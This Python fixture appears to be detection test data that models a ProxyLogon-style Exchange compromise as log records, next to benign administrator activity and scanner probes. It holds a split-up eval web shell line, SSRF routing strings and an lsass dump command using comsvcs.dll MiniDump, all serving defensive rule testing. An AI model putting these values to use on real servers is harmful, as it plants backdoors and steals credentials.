"""One course of events as every record of the server would tell it, and what innocent people do on such a server."""

from __future__ import annotations

from shellcase.rulebook import ExampleRow

HP, ECP, CMDLET, IIS, EVTX = (
    "exchange.httpproxy.request",
    "exchange.ecp.command",
    "exchange.management.cmdlet",
    "iis.request",
    "windows.evtx.record",
)
CLIENT, USER_OF_SHELL = "203.0.113.7", "198.51.100.3"
CANARY, GUID = "Abc-123_x.y", "7a1b2c3d-0000-4000-8000-00000000abcd"
SHELL = r"C:\inetpub\wwwroot\aspnet_client\discover.aspx"
COMPILED = (
    r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\1\2\discover.aspx.cdcab7d2.compiled"
)
DUMP = r"C:\Windows\Temp\x.dmp"
_PIECES = (
    "http://f/<scr",
    "ipt run",
    'at="ser',
    'ver">function Page_',
    "Load(){ev",
    'al(Request["k1"],"uns',
    'afe");}</scr',
    "ipt>",
)
SCRIPT = "".join(_PIECES)
POOL = r'c:\windows\system32\inetsrv\w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0"'
SYSMON = "Microsoft-Windows-Sysmon/Operational"


def proxied(ts: str, anchor: str, status: int, request: str, client: str = CLIENT) -> ExampleRow:
    """A front-end request routed by its client."""
    data: dict[str, object] = {"AnchorMailbox": anchor, "RequestId": request, "RoutingHint": "X-BEResource-Cookie"}
    return ExampleRow(
        kind=HP, ts=ts, path=r"D:\Logging\HttpProxy\Ecp\1.LOG", src_ip=client, http_status=status, url="/ecp/y.js",
        user_agent="python-requests/2.25.1", data=data,  # type: ignore[arg-type]
    )  # fmt: skip


def ecp(ts: str, command: str) -> ExampleRow:
    """A line of the ECP Server log."""
    return ExampleRow(kind=ECP, ts=ts, path=r"D:\Logging\ECP\Server\1.LOG", command=command, data={"canary": CANARY})


def cmdlet(ts: str, name: str, parameters: str) -> ExampleRow:
    """A record of the MSExchange Management channel."""
    data = {"Cmdlet": name, "Parameters": parameters, "Process": "900 w3wp#MSExchangeECPAppPool"}
    return ExampleRow(kind=CMDLET, ts=ts, path=r"C:\m.evtx", event_code="1", user="Administrator", data=dict(data))


def web(ts: str, url: str, status: int, client: str, method: str = "GET", request: str = "") -> ExampleRow:
    """A line of the front end's IIS log."""
    data = {"site": "W3SVC1", "cafeReqId": request}
    return ExampleRow(
        kind=IIS, ts=ts, path=r"C:\u_ex.log", url=url, http_status=status, src_ip=client, http_method=method,
        data=dict(data),
    )  # fmt: skip


def file_record(ts: str, path: str, state: str = "live") -> ExampleRow:
    """The creation of a file as its $MFT record has it."""
    return ExampleRow(
        kind="ntfs.mft.entry", ts=ts, path=r"C:\$MFT", act="MACB", file_path=path, state=state, data={"set": "FN"}
    )


def process(ts: str, image: str, command: str, pid: str, parent: str, parent_command: str) -> ExampleRow:
    """Sysmon event 1."""
    named = {"ProcessId": pid, "ParentProcessId": "4711", "ParentImage": parent, "ParentCommandLine": parent_command}
    return ExampleRow(
        kind=EVTX, ts=ts, path=r"C:\sysmon.evtx", channel=SYSMON, event_code="1", process=image, command=command,
        data={"EventData": dict(named)},
    )  # fmt: skip


DDI = f"ServerInfo~a]@srv:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={CANARY}&schema="
COURSE = (
    proxied("2021-03-03T06:49:42.162Z", "ServerInfo~a]@srv:444/autodiscover/autodiscover.xml?#", 200, "r1"),
    proxied("2021-03-03T06:49:43.700Z", "ServerInfo~a]@srv:444/mapi/emsmdb/?#", 200, "r2"),
    proxied("2021-03-03T06:49:46.200Z", "ServerInfo~a]@srv:444/ecp/proxyLogon.ecp?#", 241, "r3"),
    web("2021-03-03T06:49:46Z", "/ecp/y.js?cafeReqId=r3;", 241, CLIENT, "POST", "r3"),
    proxied("2021-03-03T06:49:53.762Z", DDI + "OABVirtualDirectory#", 200, "r4"),
    ecp("2021-03-03T06:49:53.800Z", f"Set-OabVirtualDirectory.ExternalUrl='{SCRIPT}'.Identity='{GUID}'"),
    cmdlet("2021-03-03T06:49:53.900Z", "Set-OabVirtualDirectory", f'-ExternalUrl "{SCRIPT}" -Identity "OAB"'),
    ExampleRow(kind="exchange.vdir.export", ts="2021-03-03T06:49:53Z", path=SHELL, file_path=SHELL,
               data={"Guid": GUID, "known_good": "no", "exposed": True, "sinks": ["eval"], "sources": ["Request"],
                     "keys": ["k1"], "size": 2201}),
    ExampleRow(kind="web.page", path=SHELL, file_path=SHELL,
               data={"known_good": "no", "exposed": True, "sinks": ["eval"], "sources": ["Request"], "keys": ["k1"],
                     "size": 2201}),
    file_record("2021-03-03T06:49:58.1234567Z", SHELL),
    cmdlet("2021-03-03T06:49:59Z", "Remove-OabVirtualDirectory", '-Force "True" -Identity "OAB"'),
    ecp("2021-03-03T06:49:59Z", "Remove-OABVirtualDirectory.Force=$true"),
    ecp("2021-03-03T06:50:03Z", "New-OABVirtualDirectory.WebSiteName='Default Web Site'"),
    cmdlet("2021-03-03T06:50:03Z", "New-OabVirtualDirectory", '-WebSiteName "Default Web Site"'),
    proxied("2021-03-03T06:50:04Z", DDI + "ResetOABVirtualDirectory#", 200, "r5"),
    ecp("2021-03-03T06:50:20Z", f"Set-OabVirtualDirectory.ExternalUrl=$null.Identity='{GUID}'"),
    web("2021-03-05T03:06:27Z", "/aspnet_client/discover.aspx", 200, USER_OF_SHELL),
    ExampleRow(kind="web.compiled", path=COMPILED, file_path=COMPILED,
               data={"virtualPath": "/aspnet_client/discover.aspx", "assembly": "App_Web_x", "allow_listed": False}),
    file_record("2021-03-05T03:06:27.5Z", COMPILED),
    web("2021-03-06T02:11:05Z", "/aspnet_client/discover.aspx", 200, USER_OF_SHELL, "POST"),
    process("2021-03-06T02:11:05.2Z", r"C:\Windows\System32\cmd.exe", "cmd /c x", "5000",
            r"C:\Windows\System32\inetsrv\w3wp.exe", POOL),
    process("2021-03-06T02:11:06Z", r"C:\Windows\System32\rundll32.exe",
            "rundll32 com" + "svcs.dll, Mini" + f"Dump 672 {DUMP} full", "5001", r"C:\Windows\System32\cmd.exe", ""),
    file_record("2021-03-06T02:11:07Z", DUMP),
    ExampleRow(kind="memory.dump", ts="2021-03-06T02:11:07Z", path=DUMP, file_path=DUMP,
               data={"is_lsass": True, "module0": r"C:\Windows\System32\lsass.exe", "pid": "672"}),
)  # fmt: skip

INNOCENT = (
    # an administrator resets the OAB virtual directory in the admin center
    ecp("2021-02-10T10:00:00Z", "Set-OabVirtualDirectory.ExternalUrl='https://mail.example.test/OAB'"),
    ecp("2021-02-10T10:00:12Z", "Remove-OABVirtualDirectory.Force=$true"),
    ecp("2021-02-10T10:00:15Z", "New-OABVirtualDirectory.WebSiteName='Default Web Site'"),
    cmdlet("2021-02-10T10:00:00Z", "Set-OabVirtualDirectory", '-ExternalUrl "https://mail.example.test/OAB"'),
    cmdlet("2021-02-10T10:00:12Z", "Remove-OabVirtualDirectory", '-Force "True"'),
    cmdlet("2021-02-10T10:00:15Z", "New-OabVirtualDirectory", '-WebSiteName "Default Web Site"'),
    # the back end's ordinary 241, users, monitoring
    ExampleRow(kind=IIS, ts="2021-02-10T09:00:00Z", user="EXAMPLE\\EX01$", url="/ecp/proxyLogon.ecp", http_status=241,
               http_method="POST", data={"site": "W3SVC2", "s-port": "444"}),
    web("2021-02-10T09:00:00Z", "/owa/auth/logon.aspx?replaceCurrent=1", 200, "10.0.0.8"),
    web("2021-02-10T09:00:01Z", "/owa/auth/errorFE.aspx?CorrelationID=1", 200, "10.0.0.8"),
    ExampleRow(kind=HP, ts="2021-02-10T09:00:00Z", http_status=200, user="EXAMPLE\\alice",
               data={"AnchorMailbox": "Sid~S-1-5-21-1-2-3-1104", "BackEndCookie": "Server~srv~1942063431~2021-02-10"}),
    # the compiled logon page, a crash dump of the worker, antivirus looking at lsass
    ExampleRow(kind="web.compiled", file_path=r"C:\T\logon.aspx.aabbccdd.compiled",
               data={"virtualPath": "/owa/auth/logon.aspx", "allow_listed": True}),
    ExampleRow(kind="memory.dump", ts="2021-01-05T00:00:00Z", file_path=r"C:\CrashDumps\w3wp.exe.99.dmp",
               data={"is_lsass": False, "module0": r"C:\Windows\System32\inetsrv\w3wp.exe"}),
    file_record("2021-01-05T00:00:00Z", r"C:\CrashDumps\w3wp.exe.99.dmp"),
    ExampleRow(kind=EVTX, ts="2021-02-10T09:00:00Z", channel=SYSMON, event_code="10", process=r"C:\AV\MsMpEng.exe",
               data={"EventData": {"TargetImage": r"C:\Windows\System32\lsass.exe", "GrantedAccess": "0x1410",
                                   "CallTrace": r"C:\Windows\SYSTEM32\ntdll.dll+1"}}),
)  # fmt: skip

PROBES = (
    proxied("2021-03-12T11:00:00Z", "ServerInfo~localhost/owa/auth/logon.aspx?", 500, "s1", "192.0.2.44"),
    proxied("2021-03-13T11:00:00Z", "ServerInfo~a]@srv:444/ecp/proxyLogon.ecp?#", 503, "s2", "192.0.2.99"),
)
"""A scanner, and someone whose requests failed."""

AMSI = (proxied("2021-11-01T11:00:00Z", "ServerInfo~a]@srv:444/ecp/proxyLogon.ecp#~1941997017", 241, "t1", "10.0.0.5"),)
"""A responder with Microsoft's Test-AMSI script."""
